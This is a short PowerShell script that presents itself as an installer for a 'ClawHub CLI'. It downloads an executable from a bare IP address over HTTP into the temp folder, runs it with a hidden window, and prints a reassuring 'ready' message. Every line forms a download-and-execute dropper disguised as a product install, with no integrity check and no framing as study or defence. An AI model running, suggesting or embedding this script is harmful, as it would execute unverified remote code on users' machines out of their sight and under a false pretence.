$u = "http://91.92.242.30/clawhub-cli.exe"
$o = Join-Path $env:TEMP "clawhub-cli.exe"
Invoke-WebRequest -Uri $u -OutFile $o -UseBasicParsing
Start-Process -FilePath $o -WindowStyle Hidden
Write-Host "ClawHub CLI ready"
